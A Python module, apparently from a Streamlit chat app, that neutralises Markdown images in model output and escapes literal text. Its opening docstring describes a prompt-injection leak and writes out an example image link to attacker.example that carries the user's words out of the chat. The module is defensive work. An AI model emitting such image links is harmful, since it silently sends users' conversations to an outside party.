"""Text from a model (or pasted by the user) made safe to draw as Markdown: images turn into links.

Streamlit's Markdown already shows raw HTML as its source text and drops javascript: links. It still loads
every Markdown image as soon as the text is drawn — the classic way a prompt-injected reply leaks a
conversation: `![](https://attacker.example/?q=<what the user said>)` is fetched without a click.
`without_images` escapes the `!` of every `![`, so an image becomes an ordinary link the user may open.

Code is left exactly as written where it certainly is code, so `vec![1, 2]` in a Rust block reads normally:
a fence at column 0, and a backtick span in a plain paragraph. Where the Markdown is ambiguous (raw HTML,
math, tables, fences inside lists or quotes, escaped backticks) the `!` is escaped even inside code: a
stray backslash in rare code is the price of never missing an image.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_LINE_BREAK = re.compile(r"\r\n?|\n")
_FENCE_OPEN = re.compile(r"(`{3,}|~{3,})(.*)")
# An unescaped `![`: the `!` preceded by an even number of backslashes (each pair is a literal backslash).
_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
# A top-level line that may open raw HTML (`<!--`, `<pre>` … run past blank lines) or a `$$` math block:
# either can hide a fence line from us, so fences are no longer trusted after one.
_OPAQUE_START = re.compile(r" {0,3}(<|\$\$)")
# Inline constructs that take precedence over a backtick span or change where one ends (raw HTML and
# autolinks, table cells, math, escaped backticks, GFM autolink literals): with any of them in a
# paragraph, its backtick spans are not trusted either.
_SPAN_SPOILERS = re.compile(r"[<|$]|\\`|://|www\.|@")
_BACKTICKS = re.compile(r"`+")


def without_images(text: str) -> str:
    """`text` with every Markdown image written as a link (`![a](u)` → `\\![a](u)`), code left intact."""
    if "![" not in text:
        return text
    out: list[str] = []
    paragraph: list[str] = []
    fence: str | None = None  # the opening run of the code fence we are inside
    trust_fences = True
    previous_blank = True
    for line in _LINE_BREAK.split(text):
        if fence is not None:
            out.append(line)
            if _closes(line, fence):
                fence, previous_blank = None, False
            continue
        opening = _FENCE_OPEN.fullmatch(line)
        if opening and trust_fences and previous_blank and not _backtick_info(opening):
            out += _escape_paragraph(paragraph)
            paragraph = []
            out.append(line)
            fence = opening.group(1)
            continue
        if "```" in line or "~~~" in line:
            # A fence we did not open (indented, in a list or quote, after text): we cannot tell which
            # later fence line opens and which closes, so from here on none is trusted.
            trust_fences = False
        if _OPAQUE_START.match(line):
            trust_fences = False
        if line.strip(" \t"):
            paragraph.append(line)
            previous_blank = False
        else:  # a blank line, as Markdown defines it (spaces and tabs only)
            out += _escape_paragraph(paragraph)
            paragraph = []
            out.append(line)
            previous_blank = True
    out += _escape_paragraph(paragraph)
    return "\n".join(out)


def _backtick_info(opening: re.Match) -> bool:
    """A backtick fence whose info string holds a backtick is not a fence in CommonMark."""
    return opening.group(1)[0] == "`" and "`" in opening.group(2)


def _closes(line: str, fence: str) -> bool:
    return re.fullmatch(rf" {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*", line) is not None


def _escape(text: str) -> str:
    return _IMAGE.sub(lambda m: m.group(1) + "\\![", text)


def _escape_paragraph(lines: list[str]) -> list[str]:
    """Escape the images of a run of non-blank lines, keeping backtick spans when they are certain."""
    if not any("![" in line for line in lines):
        return lines
    if _SPAN_SPOILERS.search("\n".join(lines)):
        return [_escape(line) for line in lines]
    pieces_per_line = [_split_code_spans(line) for line in lines]
    if any(pieces is None for pieces in pieces_per_line):
        # A backtick run without its partner on the same line may pair with one on another line.
        return [_escape(line) for line in lines]
    return [
        "".join(piece if is_code else _escape(piece) for piece, is_code in pieces)
        for pieces in pieces_per_line  # type: ignore[union-attr]
    ]


def _split_code_spans(line: str) -> list[tuple[str, bool]] | None:
    """(text, is_code) pieces of one line, pairing backtick runs as CommonMark does; None if one is unpaired."""
    pieces: list[tuple[str, bool]] = []
    runs = list(_BACKTICKS.finditer(line))
    position = index = 0
    while index < len(runs):
        opener = runs[index]
        closer = next(
            (j for j in range(index + 1, len(runs)) if len(runs[j].group()) == len(opener.group())), None
        )
        if closer is None:
            return None
        pieces.append((line[position : opener.start()], False))
        pieces.append((line[opener.start() : runs[closer].end()], True))
        position = runs[closer].end()
        index = closer + 1
    pieces.append((line[position:], False))
    return pieces


# Literal text ----------------------------------------------------------------------------------------

# Every ASCII punctuation character may be backslash-escaped in CommonMark; these can start markup
# (emphasis, links, HTML, headings, lists, tables, code) or Streamlit extras ($math$, :emoji:, :red[...]).
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~$:&\"'=^])")


def escape_markdown(text: str) -> str:
    """`text` shown literally in Markdown: no emphasis, links, HTML, headings, math or code from it."""
    return marked_runs([("", unlinked(text))])


# Streamlit's Markdown (GFM) also turns bare URLs and e-mail addresses into links ("autolink literals"),
# found in the text after escapes are decoded, so no escape stops it. An invisible WORD JOINER (U+2060)
# inside "://", "www." and before "@" does: the text reads the same, and is no longer a link.
_AUTOLINK_SPOTS = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?=@)", re.IGNORECASE)
WORD_JOINER = "\u2060"


def unlinked(text: str) -> str:
    """`text` with a word joiner where GFM would start a link of its own (a URL, www., an address)."""
    return _AUTOLINK_SPOTS.sub(WORD_JOINER, text)


def marked_runs(runs: Iterable[tuple[str, str]]) -> str:
    """Markdown for runs of literal text, each wrapped in its marker ("", "**", "~~"); the text is escaped."""
    out: list[str] = []
    at_line_start = True
    for marker, text in runs:
        for index, line in enumerate(text.split("\n")):
            if index:
                out.append("  \n")  # a hard break: a single newline would be a soft one
                at_line_start = True
            if not line:
                continue
            if at_line_start:
                # Leading spaces would start an indented code block: keep them as non-breaking spaces.
                body = line.lstrip(" \t")
                indent = line[: len(line) - len(body)]
                out.append(indent.replace("\t", "    ").replace(" ", "&nbsp;"))
                line = body
                at_line_start = False
            core = line.strip()
            if not marker or not core:
                out.append(_literal(line))
                continue
            # Emphasis cannot open after or close before a space: keep the spaces outside the markers.
            start = line.index(core)
            lead, trail = line[:start], line[start + len(core) :]
            out.append(f"{lead}{marker}{_literal(core)}{marker}{trail}")
    return "".join(out)


def _literal(text: str) -> str:
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)
